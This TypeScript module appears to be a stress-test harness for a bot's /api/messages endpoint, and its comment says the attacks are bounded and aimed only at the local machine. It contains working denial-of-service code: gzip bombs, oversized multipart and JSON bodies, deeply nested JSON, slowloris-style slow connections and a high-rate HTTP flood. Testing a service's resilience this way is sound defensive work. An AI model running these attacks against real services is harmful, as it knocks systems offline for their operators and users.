/** What somebody who can reach the bot's address may send. Each attack is bounded, and goes to this machine only. */
import { Agent, request, type OutgoingHttpHeaders } from "node:http";
import { connect, type Socket } from "node:net";
import { gzipSync } from "node:zlib";

/** Where to, and with which Authorization header. */
export interface Target {
  readonly host: string;
  readonly port: number;
  readonly authorization?: string;
}
/** What came back: how many posts, and how often each status; `cut`: the connection was ended before a status was read. */
export interface Outcome {
  readonly sent: number;
  readonly answers: Readonly<Record<string, number>>;
  readonly ms: number;
}
/** `scale` 1 is the whole attack; a sample takes a part of it. */
type Attack = (target: Target, scale: number) => Promise<Outcome>;

const MB = 1024 * 1024,
  PATIENCE_MS = 30_000,
  PATH = "/api/messages",
  JSON_TYPE = { "content-type": "application/json" };
const parts = (n: number, scale: number): number => Math.max(1, Math.round(n * scale));
const wait = (ms: number): Promise<void> => new Promise((r) => setTimeout(r, ms));

async function counted(answers: readonly Promise<string>[], from: number): Promise<Outcome> {
  const all: Record<string, number> = {};
  for (const answer of await Promise.all(answers)) all[answer] = (all[answer] ?? 0) + 1;
  return { sent: answers.length, answers: all, ms: performance.now() - from };
}
/** One post whose body is written piece by piece, as fast as it is taken. */
function post(t: Target, headers: OutgoingHttpHeaders, pieces: Iterable<Buffer>): Promise<string> {
  return new Promise((resolve) => {
    const authorization = t.authorization === undefined ? {} : { authorization: t.authorization };
    const req = request({
      ...t,
      path: PATH,
      method: "POST",
      headers: { ...headers, ...authorization },
      agent: new Agent(),
    });
    let over = false;
    const end = (answer: string): void => {
      over = true;
      resolve(answer);
      req.destroy();
    };
    req.on("response", (res) => res.resume().once("end", () => end(String(res.statusCode))));
    req.once("error", () => end("cut"));
    req.setTimeout(PATIENCE_MS, () => end("no answer"));
    const rest = pieces[Symbol.iterator]();
    const write = (): void => {
      for (;;) {
        if (over) return;
        const next = rest.next();
        if (next.done === true) return void req.end();
        if (!req.write(next.value)) return void req.once("drain", write);
      }
    };
    write();
  });
}
function* repeated(piece: Buffer, times: number): Iterable<Buffer> {
  for (let i = 0; i < times; i++) yield piece;
}
const many = (n: number, one: () => Promise<string>): Promise<Outcome> => {
  const from = performance.now();
  return counted(Array.from({ length: n }, one), from);
};

/** 8 bodies of 243 KB that unpack to 250 MB each. */
const gzip: Attack = (t, scale) => {
  const bomb = gzipSync(Buffer.alloc(parts(250, scale) * MB, " "));
  return many(8, () => post(t, { ...JSON_TYPE, "content-encoding": "gzip", "content-length": bomb.length }, [bomb]));
};
/** A file of 190 MB in a form. */
const multipart: Attack = (t, scale) => {
  const head = Buffer.from('--x\r\ncontent-disposition: form-data; name="f"; filename="f"\r\n\r\n'),
    piece = Buffer.alloc(MB, "x");
  const form = function* (): Iterable<Buffer> {
    yield head;
    yield* repeated(piece, parts(190, scale));
    yield Buffer.from("\r\n--x--\r\n");
  };
  return many(3, () => post(t, { "content-type": "multipart/form-data; boundary=x" }, form()));
};
/** 10 MB of JSON: said beforehand, and in chunks that say nothing. */
const large: Attack = async (t, scale) => {
  const piece = Buffer.alloc(MB, " "),
    body = (): Iterable<Buffer> => repeated(piece, 10);
  let n = 0;
  return many(parts(40, scale), () =>
    post(t, n++ % 2 === 0 ? { ...JSON_TYPE, "content-length": 10 * MB } : JSON_TYPE, body()),
  );
};
/** As deep as 250 KB can be. */
const deep: Attack = (t, scale) => {
  const body = Buffer.from(`${"[".repeat(125_000)}${"]".repeat(125_000)}`);
  return many(parts(200, scale), () => post(t, { ...JSON_TYPE, "content-length": body.length }, [body]));
};
/** 500 connections: some say nothing, some never end their headers, most send a byte of their body now and then. */
const slow: Attack = async (t, scale) => {
  const from = performance.now(),
    until = from + 20_000,
    authorization = t.authorization === undefined ? "" : `authorization: ${t.authorization}\r\n`,
    start = `POST ${PATH} HTTP/1.1\r\nhost: x\r\n${authorization}`,
    begun = [start, `${start}content-type: application/json\r\ncontent-length: 200000\r\n\r\n{`, ""];
  const one = (n: number): Promise<string> =>
    new Promise((resolve) => {
      let got = "";
      const socket: Socket = connect(t.port, t.host, () =>
        socket.write(begun[Math.min(n % 10, 2) === 2 ? 1 : n % 10]!),
      );
      const drip = setInterval(() => {
        if (performance.now() > until) socket.destroy();
        else if (n % 10 !== 9) socket.write(n % 10 === 0 ? "x" : " ");
      }, 500);
      socket.on("data", (d) => (got += String(d))).on("error", () => undefined);
      socket.on("close", () => {
        clearInterval(drip);
        resolve(performance.now() > until ? "held" : (/^HTTP\/1\.1 (\d+)/.exec(got)?.[1] ?? "cut"));
      });
    });
  return counted(
    Array.from({ length: parts(500, scale) }, (_, n) => one(n)),
    from,
  );
};
/** 5,000 posts a second for five seconds, or as many as this machine gives, many of them in one write. */
const flood: Attack = async (t, scale) => {
  const PER_SECOND = 5_000,
    SOCKETS = 50,
    BATCH = 10,
    from = performance.now(),
    until = from + 5_000 * scale,
    authorization = t.authorization === undefined ? "" : `authorization: ${t.authorization}\r\n`,
    body = JSON.stringify({ type: "message", text: "x".repeat(500) }),
    one = `POST ${PATH} HTTP/1.1\r\nhost: x\r\n${authorization}content-type: application/json\r\ncontent-length: ${body.length}\r\n\r\n${body}`,
    batch = one.repeat(BATCH);
  let sent = 0;
  const answers: Record<string, number> = {};
  const worker = (): Promise<void> =>
    new Promise((resolve) => {
      let waiting = 0,
        over = false,
        rest = "";
      const socket = connect(t.port, t.host, () => void next());
      const end = (): void => {
        if (over) return;
        over = true;
        answers["cut"] = (answers["cut"] ?? 0) + waiting;
        socket.destroy();
        resolve();
      };
      const next = async (): Promise<void> => {
        const due = from + (sent / PER_SECOND) * 1_000;
        if (due > performance.now()) await wait(due - performance.now());
        if (performance.now() >= until) return end();
        sent += BATCH;
        waiting += BATCH;
        socket.write(batch);
      };
      socket.on("data", (d) => {
        rest += String(d);
        for (const [, status] of rest.matchAll(/HTTP\/1\.1 (\d+)/g)) {
          answers[status!] = (answers[status!] ?? 0) + 1;
          waiting--;
        }
        rest = rest.slice(-12).replace(/HTTP\/1\.1 \d+/g, "");
        if (waiting === 0) void next();
      });
      socket.on("close", end).on("error", end);
    });
  await Promise.all(Array.from({ length: SOCKETS }, worker));
  return { sent, answers, ms: performance.now() - from };
};

export const ATTACKS = { gzip, multipart, large, deep, slow, flood } as const satisfies Record<string, Attack>;
export type AttackName = keyof typeof ATTACKS;
